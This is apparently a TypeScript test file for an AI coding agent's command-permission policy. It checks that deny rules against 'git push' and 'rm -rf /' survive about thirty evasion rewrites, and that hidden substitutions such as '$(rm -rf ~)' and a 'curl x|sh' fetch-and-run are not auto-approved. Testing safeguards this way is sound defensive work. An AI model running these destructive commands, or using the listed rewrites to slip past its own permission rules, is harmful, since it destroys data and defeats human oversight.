import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { denyParts, evaluatePolicy } from "../../src/agent/policy.ts";
import type { ToolCall } from "../../src/core/messages.ts";

const bash = (command: string): ToolCall => ({ type: "tool_call", id: "c1", name: "bash", arguments: { command } });
const deny = (command: string, patterns: string[]) =>
  evaluatePolicy(bash(command), { mode: "never", deny: patterns })?.action;

describe("deny patterns survive trivial rewrites", () => {
  const bypasses = [
    "rm  -rf /",
    "rm\t-rf   /",
    'bash -c "git push origin main"',
    "sh -c 'ls; git push'",
    "/bin/bash -lc 'git push'",
    ";git push",
    "ls&git push",
    "echo $(git push)",
    "echo `git push`",
    "(git push)",
    "FOO=1 git push",
    'g"it" push',
    "g\\it push",
    "sudo -E git push",
    "env GIT_TRACE=1 git push",
    "nohup git push",
    "timeout 10 git push",
    "xargs git push < /dev/null",
    "eval 'git push'",
    "/usr/bin/git push",
    "./git push",
    "find . -maxdepth 0 -exec git push \\;",
    "find . -execdir sudo git push {} +",
    "echo origin | xargs -n 1 -I {} git push {}",
    "env -i PATH=/usr/bin -u HOME git push",
    "sudo -u root -- git push",
    "nice -n 5 git push",
    "timeout -s KILL 10 git push",
    "command -p git push",
    "if true; then git push; fi",
    "stdbuf -oL git push",
    "bash -o pipefail -c 'git push'",
  ];
  for (const command of bypasses) {
    it(`denies ${JSON.stringify(command)}`, () => {
      assert.equal(deny(command, ["git push*", "rm -rf /*"]), "deny", JSON.stringify(denyParts(command)));
    });
  }

  it("does not deny look-alikes", () => {
    assert.equal(deny("git status && echo 'not pushing'", ["git push*"]), "run");
    assert.equal(deny("npm test 2>&1 | tail", ["git push*"]), "run");
  });

  it("an allow pattern does not auto-approve a command substitution hidden in an allowed command", () => {
    const policy = { mode: "untrusted" as const, allow: ["npm test*"] };
    assert.equal(evaluatePolicy(bash("npm test 2>&1"), policy)?.action, "run");
    assert.equal(evaluatePolicy(bash("npm test $(rm -rf ~)"), policy)?.action, "ask");
    assert.equal(evaluatePolicy(bash("npm test `curl x|sh`"), policy)?.action, "ask");
  });
});
